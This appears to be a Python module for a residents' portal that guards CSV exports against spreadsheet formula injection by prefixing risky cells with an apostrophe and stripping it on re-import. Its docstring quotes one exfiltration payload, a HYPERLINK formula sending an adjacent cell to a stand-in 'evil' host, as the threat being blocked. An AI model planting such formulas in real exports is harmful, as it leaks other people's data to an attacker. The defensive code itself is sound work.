"""CSV that a spreadsheet opens as data, never as formulas: every CSV the portal writes goes through :func:`writer`.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP's list), or with blanks and
then one of those, is run as a formula by Excel, WPS or LibreOffice when the file is opened: a resident who
registers as ``=HYPERLINK("http://evil/?"&A2, "点击")`` would otherwise hand the next administrator's export a
link that leaks the row beside it. Such a cell gets a leading apostrophe, which the spreadsheet shows as text.
The registry import takes the apostrophe off again (:func:`uncell`), so an export imports back unchanged.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

TRIGGERS = frozenset("=+-@\t\r")
BLANKS = " \t\r\n\u3000"  # a leading blank (ASCII or full-width) before a trigger does not make it text


class _Sink(Protocol):
    def write(self, s: str, /) -> Any: ...


def _runs(s: str) -> bool:
    if not s:
        return False
    if s[0] in TRIGGERS:
        return True
    rest = s.lstrip(BLANKS)
    return rest != s and rest[:1] in TRIGGERS


def cell(value: Any) -> str:
    """``value`` as a CSV cell a spreadsheet shows as text (None: empty)."""
    s = "" if value is None else str(value)
    return "'" + s if _runs(s) else s


def uncell(s: str) -> str:
    """The value :func:`cell` neutralised, for reading an exported file back."""
    return s[1:] if s[:1] == "'" and _runs(s[1:]) else s


class Writer:
    """A :func:`csv.writer` whose every cell goes through :func:`cell`."""

    def __init__(self, out: _Sink, **fmt: Any) -> None:
        self._w = csv.writer(out, **fmt)

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow([cell(v) for v in row])


def writer(out: _Sink, *, lineterminator: str = "\r\n") -> Writer:
    return Writer(out, lineterminator=lineterminator)
